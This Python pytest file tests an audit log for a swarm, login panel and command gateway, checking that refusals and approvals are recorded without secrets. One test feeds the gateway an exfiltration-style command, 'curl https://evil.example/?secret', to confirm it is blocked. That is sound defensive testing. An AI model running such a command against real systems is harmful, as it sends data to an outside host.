"""What has no other owner is on record: tokens, logins, refusals, answers; and never a secret with it."""

from __future__ import annotations

import hashlib
import json
from pathlib import Path
from typing import Any

import pytest

from errors import StoreFull
from localhost.refusals import MOST_IN_A_WINDOW
from panel.login import CodeBox
from store import recording
from store.sqlite_store import SqliteStore
from tests.integration.swarm_rig import SwarmRig, request_of
from tests.unit.panel.conftest import *  # noqa: F403  the fixtures of the panel

GUESS = {"Authorization": "Bearer guess"}


def records(store: SqliteStore, *events: str) -> list[dict[str, Any]]:
    """The audit of these events, fields and columns in one."""
    rows = store.reader.all("audit_after", after=0, limit=1000)
    told = [{**dict(row), **json.loads(row["data"])} for row in rows if row["event"] in events]
    return [{name: value for name, value in one.items() if value is not None} for one in told]


def whole(store: SqliteStore) -> str:
    """Everything the audit holds, as text."""
    return json.dumps([dict(row) for row in store.reader.all("audit_after", after=0, limit=1000)])


# -- swarm --------------------------------------------------------------------------------------------------


def test_every_token_is_on_record_before_it_can_be_used_and_is_not_in_it(tmp_path: Path) -> None:
    tokens: list[str] = []
    issued: list[dict[str, Any]] = []
    for _ in range(2):
        with SwarmRig(tmp_path) as rig:
            tokens.append(rig.swarm.token)
            issued = records(rig.store, "token")
            assert tokens[-1] not in whole(rig.store)

    assert [one["digest"] for one in issued] == [hashlib.sha256(each.encode()).hexdigest() for each in tokens]
    assert {one["actor"] for one in issued} == {"swarm"}


def test_without_a_record_no_token_is_issued(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def no_room(*_: object, **__: object) -> None:
        raise StoreFull("no room")

    monkeypatch.setattr(SqliteStore, "audit", no_room)
    rig = SwarmRig(tmp_path)
    with pytest.raises(StoreFull):
        rig.swarm.run()
    rig.store.close()

    assert not rig.home.token.exists()


def test_refused_calls_are_on_record_with_their_rule(tmp_path: Path) -> None:
    with SwarmRig(tmp_path) as rig:
        claim = rig.claim(command="true")
        rig.client.post("/cycle", json={}, headers=GUESS)
        rig.client.post("/cycle", json={}, headers={"Origin": "https://evil.example"})
        rig.client.post("/cycle", content="{}", headers={"Content-Type": "text/plain"})
        rig.client.get("/status", headers={"Host": "evil.example"})
        rig.client.get("/status", headers={"Via": "1.1 proxy"})
        rig.client.request("OPTIONS", "/cycle")
        rig.cycle(claim, lease=99)
        rig.cycle(claim, command="echo another")
        rig.client.get("/nowhere")

        found = records(rig.store, "request")

    assert [one["rule"] for one in found] == [
        "not_authenticated", "foreign_request", "wrong_media_type", "misdirected", "forwarded",
        "method_refused", "lease_lost", "not-the-task",
    ]  # fmt: skip
    assert {(one["decision"], one["actor"]) for one in found} == {("blocked", "swarm")}
    assert found[1]["origin"] == "https://evil.example"
    assert (found[6]["task_id"], found[6]["path"], found[6]["method"]) == (claim.id, "/cycle", "POST")


def test_a_flood_of_refused_calls_leaves_a_few_records_and_a_count(tmp_path: Path) -> None:
    with SwarmRig(tmp_path) as rig:
        for _ in range(MOST_IN_A_WINDOW + 25):
            assert rig.client.post("/cycle", json={}, headers=GUESS).status_code == 401
        store = rig.store
        assert len(records(store, "request")) == MOST_IN_A_WINDOW
        rig.swarm.refusals.close()

        last = records(store, "request")[-1]
        assert (last["rule"], last["count"]) == ("not_authenticated", 25)


def test_what_was_sent_is_not_in_the_record_of_its_refusal(tmp_path: Path) -> None:
    with SwarmRig(tmp_path) as rig:
        claim = rig.claim(prompt="my secret plan")
        body = request_of(claim, prompt="another secret plan", lease=99)
        rig.client.post("/cycle?token=in-the-address", json=body)
        rig.client.post("/cycle", json=body, headers={"Authorization": "Bearer in-the-header"})

        told = whole(rig.store)

    assert not [word for word in ("secret", "in-the-address", "in-the-header") if word in told]


# -- the panel ----------------------------------------------------------------------------------------------


def test_logging_in_and_out_is_on_record_under_one_digest(browser, stranger, store: SqliteStore) -> None:
    assert stranger.post("/login", {"code": "guess-the-code"}).status_code == 401
    assert browser.post("/logout").status_code == 200

    found = records(store, "login", "logout")

    assert [(one["event"], one["decision"]) for one in found] == [
        ("login", "allowed"), ("login", "blocked"), ("logout", "recorded"),
    ]  # fmt: skip
    assert found[1]["rule"] == "not_authenticated"
    assert found[0]["digest"] == found[2]["digest"]
    assert "guess-the-code" not in whole(store)


def test_a_guesser_is_counted_not_written_down_for_ever(app, stranger, store: SqliteStore) -> None:
    for _ in range(60):
        stranger.post("/login", {"code": "guess"})
    app.extensions["skep-panel"].refusals.close()

    found = records(store, "login")

    assert len(found) <= 2 * (MOST_IN_A_WINDOW + 1)
    assert sum(one.get("count", 1) for one in found) == 60
    assert {one["rule"] for one in found} == {"not_authenticated", "login_rest"}


def test_a_login_that_cannot_be_recorded_is_refused(
    stranger, store: SqliteStore, home, clock, monkeypatch: pytest.MonkeyPatch
) -> None:
    def no_room(*_: object, **__: object) -> None:
        raise StoreFull("no room")

    code = CodeBox(home, clock).mint()
    with monkeypatch.context() as patch:
        patch.setattr(SqliteStore, "audit", no_room)
        assert stranger.post("/login", {"code": code}).status_code == 503

    assert stranger.get("/api/v1/status").status_code == 401


def test_a_logout_that_cannot_be_recorded_logs_out_all_the_same(
    browser, monkeypatch: pytest.MonkeyPatch
) -> None:
    def no_room(*_: object, **__: object) -> None:
        raise StoreFull("no room")

    with monkeypatch.context() as patch:
        patch.setattr(SqliteStore, "audit", no_room)
        assert browser.post("/logout").status_code == 503

    assert browser.get("/api/v1/status").status_code == 401


def test_requests_the_panel_refuses_are_on_record_and_strangers_looking_for_the_login_are_not(
    app, browser, stranger, store: SqliteStore
) -> None:
    stranger.get("/", headers={"Accept": "text/html"})
    stranger.get("/api/v1/tasks")
    browser.post("/api/v1/tasks/x/cancel", headers={"X-CSRF-Token": "wrong"})
    browser.post("/api/v1/tasks/x/cancel", headers={"Origin": "https://evil.example"})
    browser.get("/live", headers={"Host": "rebound.example"})
    app.test_client().get("/api/v1/tasks", base_url=OWN, headers={"Authorization": "Bearer guess"})  # noqa: F405

    found = records(store, "request")

    assert [one["rule"] for one in found] == [
        "no_csrf_token", "foreign_request", "misdirected", "not_authenticated",
    ]  # fmt: skip
    assert {one["actor"] for one in found} == {"panel"}


# -- people and the gateway ---------------------------------------------------------------------------------


def test_an_answer_is_on_record_with_who_gave_it_and_what_it_binds_to(by, store: SqliteStore) -> None:
    by.ask("x", "Send it?", prompt="Write.", max_attempts=3)
    (question,) = store.reader.decisions()

    store.approve("x", "cli:maja", "looks fine to me")

    (found,) = records(store, "decision")
    assert (found["actor"], found["task_id"], found["answer"], found["kind"]) == (
        "cli:maja", "x", "approve", "review",
    )  # fmt: skip
    assert (found["question"], found["digest"]) == (question["id"], question["digest"])
    assert "looks fine" not in whole(store)


def test_an_answer_that_comes_too_late_leaves_no_record(by, store: SqliteStore) -> None:
    by.ask("x", "Send it?", prompt="Write.", max_attempts=3)
    (question,) = store.reader.decisions()
    store.approve("x", "cli:maja")

    with pytest.raises(Exception, match="was answered"):
        store.approve(question["id"], "cli:willi")

    assert len(records(store, "decision")) == 1


@pytest.mark.parametrize(
    ("reason", "report", "rule"),
    [
        ("workspace: program-unknown: curl is not a program that runs", {}, "program-unknown"),
        ("prompt: the text has marks of a chat template", {}, "prompt"),
        ("refused", {}, "unnamed"),
        ("no rule: at all", {}, "unnamed"),
        ("workspace: program-unknown: curl", {"rule": "programs/unknown"}, "programs/unknown"),
    ],
)
def test_what_the_gateway_blocks_is_on_record_with_its_rule_and_without_its_text(
    tmp_path: Path, reason: str, report: dict[str, Any], rule: str
) -> None:
    from tests.integration.swarm_rig import Claiming

    claiming = Claiming(tmp_path)
    claim = claiming.claim(command="curl https://evil.example/?secret")
    claiming.store.write(lambda tx: recording.block(tx, claim.ref, reason, report))

    (found,) = records(claiming.store, "execution")
    doc = claiming.store.reader.task(claim.id)["doc"]  # type: ignore[index]
    told = whole(claiming.store)
    claiming.store.close()
    assert (found["decision"], found["rule"], found["task_id"], found["lease"]) == (
        "blocked",
        rule,
        claim.id,
        1,
    )
    assert found["digest"] == hashlib.sha256(doc.encode()).hexdigest()
    assert "curl" not in told
